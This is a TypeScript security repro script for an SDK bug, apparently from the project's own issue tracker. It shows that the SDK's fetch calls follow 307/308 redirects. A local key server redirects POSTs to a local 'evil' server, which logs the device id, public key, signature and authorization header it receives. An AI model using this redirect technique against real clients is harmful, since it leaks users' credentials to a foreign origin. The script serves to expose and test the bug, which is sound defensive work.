/**
 * Attack repro (issue 18): the SDK's requests follow redirects (api-client.ts passes no
 * `redirect: 'manual'|'error'` to fetch) and only notice `response.redirected` after the fact. A key
 * server (or anything on its path: a misconfigured proxy, an old host) answering 307/308 makes the
 * phone re-send the POST body to the other origin: the device id, the holder public key and the
 * holder's registration signature (bound to the token). Run: npx tsx scripts/attack-repro-18/redirect-leak.ts
 * Prints what the foreign origin received; exit 1 when the foreign origin got anything.
 */
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createPhone, MemoryCredentialStore } from '../../src/sdk/index.ts';

const seen: { url?: string; authorization?: string; body: string }[] = [];
const readBody = (req: IncomingMessage) => new Promise<string>((resolve) => { let s = ''; req.on('data', (c) => (s += c)); req.on('end', () => resolve(s)); });
const evil = createServer(async (req, res) => {
  seen.push({ url: req.url, authorization: req.headers.authorization, body: await readBody(req) });
  res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ ok: true, challenge: Buffer.alloc(32, 7).toString('base64url') }));
});
await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
const keys = createServer(async (req, res) => {
  await readBody(req);
  if (req.url?.endsWith('/challenge')) return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ ok: true, challenge: Buffer.alloc(32, 7).toString('base64url') }));
  res.writeHead(307, { location: `${evilUrl}${req.url}` }).end();
});
await new Promise<void>((r) => keys.listen(0, '127.0.0.1', r));
const keysUrl = `http://localhost:${(keys.address() as AddressInfo).port}`;

const transport = { now: () => 0, scan: async () => [], connect: async () => Promise.reject(new Error('none')) } as never;
const phone = createPhone({ endpoint: keysUrl, clientSessionToken: 'seam_cst_SECRET_TOKEN', store: new MemoryCredentialStore(), transport });
const error = await phone.sync().catch((e: unknown) => e);
console.log('sync:', String(error));
console.log('foreign origin received:', JSON.stringify(seen, null, 1));
evil.close();
keys.close();
process.exit(seen.length > 0 ? 1 : 0);
